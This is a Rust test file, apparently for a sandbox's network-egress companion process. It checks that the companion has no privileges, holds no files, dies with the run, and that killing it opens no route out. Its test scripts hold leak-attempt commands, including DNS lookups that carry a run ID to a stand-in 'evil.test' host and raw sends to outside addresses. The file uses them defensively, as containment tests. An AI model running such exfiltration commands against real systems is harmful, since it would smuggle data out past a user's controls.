//! The process outside that dials: it has no privileges, its death opens nothing, and it does not outlive the run.

use std::fs;
use std::process::Command;
use std::time::Duration;

use glee_tests::{Attempt, Bare, Caller, Leak, World, carrying, wait_until};

use super::{lab, with};

const EVERY_WAY: &str = "@NET say allowed.test 80 'GET /@ID HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'; \
    @NET connect allowed.test:80 'GET /@ID HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'; \
    @NET socks name allowed.test 80 'GET /@ID HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'; \
    @NET say 203.0.113.20 80 @ID; PATIENCE=1 @NET dns @ID.evil.test 1; PATIENCE=1 @NET dns @ID.evil.test 1 203.0.113.53";

/// The companion of this world's run, if it has one.
pub(super) fn companion(w: &World) -> Option<u32> {
    let is_it = |pid: &u32| fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|comm| comm == "glee-egress\n");
    carrying(w.nonce()).into_iter().find(is_it)
}

fn status(pid: u32) -> String {
    fs::read_to_string(format!("/proc/{pid}/status")).expect("read the companion's status")
}

fn field(status: &str, name: &str) -> String {
    let line = status
        .lines()
        .find_map(|line| line.strip_prefix(name)?.strip_prefix(":\t"));
    line.unwrap_or_default().to_owned()
}

/// There is none in the bare control.
fn kill_companion(w: &World) {
    let Some(pid) = companion(w) else { return };
    let killed = Command::new("kill").args(["-KILL", &pid.to_string()]).status();
    assert!(killed.is_ok_and(|s| s.success()), "cannot kill the companion");
    assert!(
        wait_until(Duration::from_secs(2), || companion(w).is_none()),
        "the companion survives a kill"
    );
}

/// Looked at from outside while the command runs.
fn watched(check: fn(&World, u32)) -> Attempt {
    lab("true")
        .bare(Bare::Nobody("there is no companion outside"))
        .meanwhile(move |w| check(w, companion(w).expect("the run has a companion")))
}

fn without_privileges(w: &World, pid: u32) {
    let status = status(pid);
    let uid = match w.caller() {
        Caller::Root => 60901,
        Caller::User => w.caller().uid(),
    };
    assert_eq!(field(&status, "Uid"), [uid.to_string().as_str(); 4].join("\t"));
    for set in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
        assert_eq!(field(&status, set), "0000000000000000", "{set}");
    }
    assert_eq!(
        (
            field(&status, "NoNewPrivs").as_str(),
            field(&status, "Seccomp").as_str()
        ),
        ("1", "2")
    );
}

/// Sockets, an event queue and the like: nothing that has a path.
fn without_files(_: &World, pid: u32) {
    let open = fs::read_dir(format!("/proc/{pid}/fd")).expect("list the companion's files");
    let open = open.flatten().filter_map(|e| fs::read_link(e.path()).ok());
    let files: Vec<_> = open
        .filter(|target| target.is_absolute() && !target.starts_with("/dev/null"))
        .collect();
    assert!(files.is_empty(), "the companion holds {files:?}");
}

fn outlived(script: &'static str) -> Attempt {
    with(format!("{script}; @A mark ready @ID; sleep 30; : @ID"), Leak::Survived)
}

claims! {
    companion_has_no_privileges => watched(without_privileges),
    companion_holds_no_files => watched(without_files),
    killed_companion_opens_nothing => lab(EVERY_WAY).meanwhile(kill_companion)
        .then(|_, o| assert_eq!(o.code(), Some(0), "the run ends as its command does: {}", o.describe())),
    companion_killed_in_the_middle_opens_nothing => lab(format!("for i in 1 2 3 4 5 6 7 8; do \
        @NET say allowed.test 80 'GET /first HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'; done & \
        sleep 0.2; {EVERY_WAY}; wait")).meanwhile(kill_companion),
    companion_ends_with_a_killed_supervisor => outlived("@A daemon 20 @ID").ended_by("KILL"),
    companion_ends_with_a_terminated_supervisor => outlived("@A daemon 20 @ID").ended_by("TERM"),
    companion_with_open_connections_ends_with_the_run => with("setsid @NET say allowed.test 80 \
        'GET /first HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: @ID' >/dev/null 2>&1 & sleep 0.3; \
        PATIENCE=20 setsid @NET say allowed.test 80 \
        'GET /first HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: @ID' >/dev/null 2>&1 & sleep 0.5", Leak::Survived),
    companion_is_not_seen_from_inside => with("cat /proc/[0-9]*/comm", Leak::Seen(|_, o| o.says("glee-egress").then(String::new)))
        .bare(Bare::Nobody("there is no companion outside")),
}
